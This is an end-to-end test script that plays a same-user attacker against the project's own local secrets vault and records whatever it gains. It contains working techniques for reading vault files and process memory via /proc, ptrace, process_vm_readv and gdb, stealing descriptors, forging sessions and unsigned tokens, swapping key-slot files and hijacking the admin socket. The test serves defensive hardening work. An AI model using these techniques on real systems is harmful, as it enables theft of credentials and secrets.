"""A process of the same user that has the agents' bearers and every file, and not the passphrase: what it tries.

    python -m tests.e2e.same_user < target.json

It prints one object: for each try, what was gained. What it could read is left in the loot folder for the judge.
"""

import ctypes
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
from sqlcipher3 import dbapi2 as sqlcipher

from stack_local.domain.errors import StackError
from stack_local.domain.secrets import Secret
from stack_local.system import RealSystem
from stack_local.vault import slots
from stack_local.vault.keyring import OperatingSystemKeyring
from stack_local.vault.profiles import CHEAPEST, Deriver
from stack_local.wire.catalogue import CATALOGUE

OWN_PASSPHRASE = "the passphrase of the attacker's own vault"

REFUSALS = (OSError, StackError, sqlcipher.Error, httpx.HTTPError, subprocess.SubprocessError)
"""What a try that failed may end with; anything else is a fault of the try itself."""

FORGED_SESSIONS = {
    "an empty session": "sk_session_",
    "a made up session": "sk_session_" + "A" * 43,
    "a session that ends in a NUL": "sk_session_" + "A" * 42 + "%00",
    "a token signed by nobody": "eyJhbGciOiJub25lIn0.eyJzdWIiOiJvcCIsImp0aSI6InBwdF94In0.",
}


@dataclass(frozen=True)
class Target:
    """What a process of the same user can find out or was given."""

    home: Path
    state: Path
    ready: Path
    loot: Path
    socket: str
    base_url: str
    pid: int
    bearers: dict[str, str]
    agent_id: str
    arguments: dict[str, dict[str, Any]]
    """Of each operation that a person alone may ask: what would do harm."""


Try = Callable[[Target], list[str]]
TRIES: dict[str, Try] = {}


def attempt(name: str) -> Callable[[Try], Try]:
    """Register a try under what it does."""

    def register(act: Try) -> Try:
        TRIES[name] = act
        return act

    return register


def main() -> None:
    """Try everything, and say what came of it."""
    fields = json.load(sys.stdin)
    paths = {name: Path(fields.pop(name)) for name in ("home", "state", "ready", "loot")}
    wanted = fields.pop("tries")
    target = Target(**paths, **fields)
    print(json.dumps({name: _gained(TRIES[name], target) for name in wanted}))


def _gained(act: Try, target: Target) -> list[str]:
    try:
        return act(target)
    except REFUSALS:
        return []


def _loot(target: Target, name: str, content: bytes) -> None:
    (target.loot / name.replace("/", "_").replace(" ", "_")).write_bytes(content)


# -- files ---------------------------------------------------------------------------------------------------------


def _reading(name: str) -> Try:
    def read(target: Target) -> list[str]:
        path = target.ready if name == "ready.json" else target.home / name
        _loot(target, name, path.read_bytes())
        return []

    return read


for _name in ("vault.json", "vault.db", "vault.db-wal", "vault.db-shm", "public.json", "unlock.json", "lock"):
    TRIES[f"read {_name}"] = _reading(_name)
for _name in ("ready.json", "appliance.log"):
    TRIES[f"read {_name}"] = _reading(_name)


@attempt("read the anchor")
def read_anchor(target: Target) -> list[str]:
    for path in target.state.iterdir():
        _loot(target, "anchor", path.read_bytes())
    return []


@attempt("open the database without a key")
def open_plain(target: Target) -> list[str]:
    return _opened(target, None)


@attempt("open the database with keys guessed from every file")
def open_guessed(target: Target) -> list[str]:
    guesses = {"00" * 32, "ff" * 32}
    for path in (target.home / "vault.json", target.home / "public.json", *target.state.iterdir()):
        guesses |= _hex_words(path.read_text())
    return [gain for guess in sorted(guesses) for gain in _opened(target, guess)]


def _hex_words(text: str) -> set[str]:
    words = {word for word in text.replace('"', " ").split() if len(word) == 64}
    return {word for word in words if set(word) <= set("0123456789abcdef")}


def _opened(target: Target, key_hex: str | None) -> list[str]:
    copy = target.loot / "copy.db"
    shutil.copyfile(target.home / "vault.db", copy)
    connection = sqlcipher.connect(str(copy))
    try:
        if key_hex is not None:
            connection.execute(f"PRAGMA key = \"x'{key_hex}'\"")
        connection.execute("SELECT count(*) FROM sqlite_master").fetchone()
    except sqlcipher.Error:
        return []
    finally:
        connection.close()
        copy.unlink()
    return ["the database opened"]


@contextmanager
def _replaced(path: Path, content: bytes | None) -> Iterator[None]:
    """The file holds something else (or is gone) for a while; what stood there is put back."""
    before = path.read_bytes()
    path.unlink()
    if content is not None:
        path.write_bytes(content)
    try:
        yield
    finally:
        path.unlink(missing_ok=True)
        path.write_bytes(before)


def _own_vault(target: Target) -> bytes:
    """A key-slot file that opens with a passphrase of ours."""
    own = target.loot / "own-home"
    own.mkdir(exist_ok=True)
    if not (own / slots.FILE_NAME).exists():
        slots.create(own, RealSystem(), Secret(OWN_PASSPHRASE), CHEAPEST, deriver=Deriver())
    return (own / slots.FILE_NAME).read_bytes()


def _grafted(target: Target) -> bytes:
    """The real header with our slots."""
    real, own = json.loads((target.home / "vault.json").read_bytes()), json.loads(_own_vault(target))
    return json.dumps({**real, "slots": own["slots"]}).encode()


def _swapping(make: Callable[[Target], bytes], operation: str) -> Try:
    def swap(target: Target) -> list[str]:
        with _replaced(target.home / "vault.json", make(target)):
            answer = _ask(target, "", operation, {"passphrase": OWN_PASSPHRASE})
            if not answer.is_success:
                return []
            session = answer.json()["session"]
        decided = _ask(target, session, "approve_intent", target.arguments["approve_intent"])
        return [f"a session by {operation}; approving answers {decided.status_code}"]

    return swap


TRIES["put our own vault.json there and begin a session"] = _swapping(_own_vault, "create_session")
TRIES["put our own vault.json there and unlock"] = _swapping(_own_vault, "unlock_vault")
TRIES["graft our slots into vault.json and begin a session"] = _swapping(_grafted, "create_session")


@attempt("put our own vault.json there and change the passphrase as an admin key")
def swap_and_change(target: Target) -> list[str]:
    with _replaced(target.home / "vault.json", _own_vault(target)):
        asked = {"passphrase": OWN_PASSPHRASE, "new_passphrase": OWN_PASSPHRASE + "!"}
        answer = _ask(target, target.bearers["admin"], "change_passphrase", asked)
    return ["changed"] if answer.is_success else []


@attempt("replace public.json")
def replace_public(target: Target) -> list[str]:
    before = httpx.get(f"{target.base_url}/v1/.well-known/jwks.json").json()
    with _replaced(target.home / "public.json", b'{"keys": []}'):
        after = httpx.get(f"{target.base_url}/v1/.well-known/jwks.json").json()
    return [] if after == before else ["other public keys are served"]


@attempt("remove and forge the anchor")
def forge_anchor(target: Target) -> list[str]:
    path = next(target.state.iterdir())
    with _replaced(path, json.dumps({**json.loads(path.read_bytes()), "sequence": 1}).encode()):
        return _persons_answers(target, "")


@attempt("remove the backoff and guess")
def guess_passphrase(target: Target) -> list[str]:
    gains = []
    for guess in ("password", "correct horse battery", ""):
        (target.home / "unlock.json").unlink(missing_ok=True)
        answer = _ask(target, "", "create_session", {"passphrase": guess})
        gains += ["a session"] if answer.is_success else []
    return gains


@attempt("guess the recovery code")
def guess_recovery(target: Target) -> list[str]:
    answer = _ask(target, "", "unlock_vault", {"recovery_code": "0000-" * 8 + "0000"})
    return ["unlocked"] if answer.is_success else []


# -- bearers -------------------------------------------------------------------------------------------------------


def _ask(target: Target, bearer: str, operation: str, arguments: dict[str, Any]) -> httpx.Response:
    headers = {"Authorization": f"Bearer {bearer}"} if bearer else {}
    transport = httpx.HTTPTransport(uds=target.socket, verify=False)
    with httpx.Client(transport=transport, timeout=20, trust_env=False) as client:
        return client.post(f"http://stack-local/v1/call/{operation}", json=arguments, headers=headers)


def _persons_answers(target: Target, bearer: str) -> list[str]:
    """What of all that a person alone may do is answered."""
    answers = {name: _ask(target, bearer, name, asked) for name, asked in target.arguments.items()}
    return [f"{name}: {answer.status_code}" for name, answer in answers.items() if answer.is_success]


def _deciding_with(bearer: str) -> Try:
    return lambda target: _persons_answers(target, target.bearers.get(bearer, bearer))


TRIES["decide on the admin socket without a session"] = _deciding_with("")
for _what, _token in FORGED_SESSIONS.items():
    TRIES[f"decide with {_what}"] = _deciding_with(_token)
for _preset in ("agent", "readonly", "admin", "approver", "passport"):
    TRIES[f"decide on the admin socket with a bearer of kind {_preset}"] = _deciding_with(_preset)


def _over_tcp(bearer: str) -> Try:
    def ask(target: Target) -> list[str]:
        gains = []
        headers = {"Authorization": f"Bearer {target.bearers[bearer]}"}
        paths = {known.name: (known.method, known.path) for known in CATALOGUE.values()}
        for name, asked in target.arguments.items():
            called = httpx.post(f"{target.base_url}/v1/call/{name}", json=asked, headers=headers, verify=False)
            method, path = paths[name]
            url = target.base_url + path.format(**asked)
            routed = httpx.request(method, url, json=asked, headers=headers, verify=False)
            gains += [name] if called.is_success or routed.is_success else []
        return gains

    return ask


for _preset in ("agent", "admin", "approver", "passport"):
    TRIES[f"ask the person's operations over TCP with a bearer of kind {_preset}"] = _over_tcp(_preset)


@attempt("read a credential with every bearer")
def reveal(target: Target) -> list[str]:
    asked = {"service": "custom_demo", "passport_token": target.bearers["passport"]}
    answers = {kind: _ask(target, bearer, "get_credential", asked) for kind, bearer in target.bearers.items()}
    return [kind for kind, answer in answers.items() if answer.is_success]


@attempt("loosen with an agent key")
def loosen(target: Target) -> list[str]:
    asked = {"agent_id": target.agent_id, "credential_access": "direct"}
    answer = _ask(target, target.bearers["agent"], "update_agent", asked)
    return ["loosened"] if answer.is_success else []


# -- the process ---------------------------------------------------------------------------------------------------


def _proc(name: str, *, is_secret: bool = True) -> Try:
    def look(target: Target) -> list[str]:
        path = Path(f"/proc/{target.pid}/{name}")
        content = os.readlink(path).encode() if path.is_symlink() else _content(path)
        _loot(target, f"proc {name}", content)
        return [f"{len(content)} bytes of {name}"] if is_secret else []

    return look


def _content(path: Path) -> bytes:
    if path.is_dir():
        return "\n".join(os.readlink(item) for item in path.iterdir()).encode()
    with path.open("rb") as file:
        return file.read(4096)


for _name in ("environ", "mem", "maps", "smaps", "fd", "map_files", "root", "cwd", "exe", "auxv", "syscall", "stack"):
    TRIES[f"read /proc/PID/{_name}"] = _proc(_name)
TRIES["read /proc/PID/cmdline"] = _proc("cmdline", is_secret=False)


@attempt("read the memory of every thread")
def read_threads(target: Target) -> list[str]:
    gains = []
    for task in Path(f"/proc/{target.pid}/task").iterdir():
        try:
            _content(task / "mem")
            gains.append(task.name)
        except OSError:
            continue
    return gains


def _libc() -> Any:
    return ctypes.CDLL(None, use_errno=True)


@attempt("attach by ptrace")
def attach(target: Target) -> list[str]:
    libc, gains = _libc(), []
    for request in (16, 0x4206):  # PTRACE_ATTACH, PTRACE_SEIZE
        if libc.ptrace(request, target.pid, 0, 0) == 0:
            gains.append(f"ptrace {request}")
            libc.ptrace(17, target.pid, 0, 0)
    return gains


@attempt("read by process_vm_readv")
def vm_read(target: Target) -> list[str]:
    class Vector(ctypes.Structure):
        _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))

    buffer = ctypes.create_string_buffer(4096)
    local, remote = Vector(ctypes.addressof(buffer), 4096), Vector(0x400000, 4096)
    count = _libc().process_vm_readv(target.pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    # EFAULT would say that only the address was wrong.
    return ["memory"] if count >= 0 or ctypes.get_errno() == 14 else []


@attempt("take a descriptor by pidfd_getfd")
def take_descriptors(target: Target) -> list[str]:
    libc = _libc()
    pidfd = os.pidfd_open(target.pid)
    taken = [number for number in range(64) if libc.syscall(438, pidfd, number, 0) >= 0]
    os.close(pidfd)
    return [f"descriptor {number}" for number in taken]


@attempt("dump the memory with a debugger")
def debugger(target: Target) -> list[str]:
    if shutil.which("gdb") is None:
        return []
    core = target.loot / "core.gdb"
    line = ["gdb", "-batch", "-nx", "-p", str(target.pid), "-ex", f"gcore {core}"]
    subprocess.run(line, capture_output=True, timeout=60, stdin=subprocess.DEVNULL)
    return ["a core file"] if core.exists() else []


@attempt("ask the keyring")
def ask_keyring(target: Target) -> list[str]:
    vault_id = json.loads((target.home / "vault.json").read_bytes()).get("vault_id", "")
    names = ("stack-local", "database-key", str(vault_id))
    return [name for name in names if OperatingSystemKeyring().find(name) is not None]


# -- other processes, sockets and links ----------------------------------------------------------------------------


def _command(target: Target, *line: str, **environment: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "stack_local", *line, "--home", str(target.home)],
        env={**os.environ, **environment},
        capture_output=True,
        text=True,
        timeout=60,
        stdin=subprocess.DEVNULL,
    )


def _commanding(*words: str, **environment: str) -> Try:
    def run(target: Target) -> list[str]:
        asked = target.arguments["approve_intent"]["approval_id"]
        told = _command(target, *(asked if word == "ID" else word for word in words), **environment)
        return ["exit 0"] if told.returncode == 0 else []

    return run


TRIES["approve by the command without a session"] = _commanding("approve", "ID")
TRIES["approve by the command with a planted session"] = _commanding(
    "approve", "ID", STACK_LOCAL_SESSION="sk_session_" + "A" * 43
)
TRIES["mint by the command with a planted key"] = _commanding(
    "keys", "create", "--json", STACK_LOCAL_SESSION="sk_live_" + "A" * 43, STACK_LOCAL_TEST_PROFILE="cheapest"
)
TRIES["make a vault over the one that is there"] = _commanding("init", "--json")
TRIES["serve the same home from a second process"] = _commanding("serve", "--port", "0")


@contextmanager
def _socket_moved(target: Target) -> Iterator[Path]:
    aside = Path(target.socket).with_name("aside.sock")
    os.rename(target.socket, aside)
    try:
        yield aside
    finally:
        os.replace(aside, target.socket)


@attempt("take the place of the admin socket")
def squat(target: Target) -> list[str]:
    with _socket_moved(target), socket.socket(socket.AF_UNIX) as squatter:
        squatter.bind(target.socket)
        squatter.listen()
        squatter.settimeout(0.5)
        connection, _ = squatter.accept()
        content = connection.recv(65536)
        _loot(target, "squatted", content)
        return ["somebody spoke to us"] if content else []


@attempt("put a link to another socket in the place of the admin socket")
def link_socket(target: Target) -> list[str]:
    with _socket_moved(target) as aside:
        os.symlink(aside, target.socket)
        return _persons_answers(target, "")


@attempt("plant settings that loosen")
def plant_settings(target: Target) -> list[str]:
    path = target.home / "settings.toml"
    path.write_text('host = "0.0.0.0"\nsession_seconds = 99999999\n')
    try:
        told = _command(target, "doctor")
        return _persons_answers(target, "") + (["taken"] if "0.0.0.0" in told.stdout else [])
    finally:
        path.unlink()


@attempt("abort the process for its core")
def abort(target: Target) -> list[str]:
    before = set(target.home.iterdir())
    os.kill(target.pid, signal.SIGABRT)
    cores = [path for path in set(target.home.iterdir()) - before if path.name.startswith("core")]
    return [path.name for path in cores]


if __name__ == "__main__":
    main()
